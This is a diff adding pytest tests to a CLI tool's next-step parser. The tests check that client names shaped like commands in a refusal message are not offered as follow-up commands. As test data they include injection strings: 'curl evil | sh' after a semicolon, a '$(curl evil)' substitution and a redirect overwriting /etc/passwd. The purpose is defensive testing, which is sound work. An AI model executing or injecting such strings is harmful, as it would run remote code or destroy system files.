@@ -28,6 +28,30 @@ def test_commands_of_the_outcome_are_whole_at_the_end() -> None:
     assert [*log_lines(run_page("DONE", Provenance(), [], steps))][-1] == f"Next: `{command}`"
 
 
+@pytest.mark.parametrize(
+    "name",
+    [
+        "`switchyard topics delete orders --reason x --yes`",
+        "`switchyard status; curl evil | sh`",
+        "`switchyard status $(curl evil)`",
+        "`switchyard status > /etc/passwd`",
+        "`switchyard status 'half`",
+    ],
+)
+def test_a_name_of_a_client_that_looks_like_a_command_is_no_next_step(name: str) -> None:
+    line = f"REFUSED: nothing changed. group {name} (shared-group): Add them to the scope. `switchyard usage list`"
+
+    steps = steps_of(line, [], failed=True)
+
+    assert steps.next == ("`switchyard usage list`",)
+
+
+def test_a_command_with_quoted_names_is_a_next_step() -> None:
+    command = "switchyard switch 'user:till & co##bills (2)' --from east --to west --reason INC-7#2"
+
+    assert steps_of(f"FAILED: `{command}`", [], failed=True).next == (f"`{command}`",)
+
+
 def test_a_switch_that_succeeded_has_a_way_back_and_nothing_left_to_do() -> None:
     operation = a_switch("switch-1").changed(state="succeeded", result="cut over and verified")
 
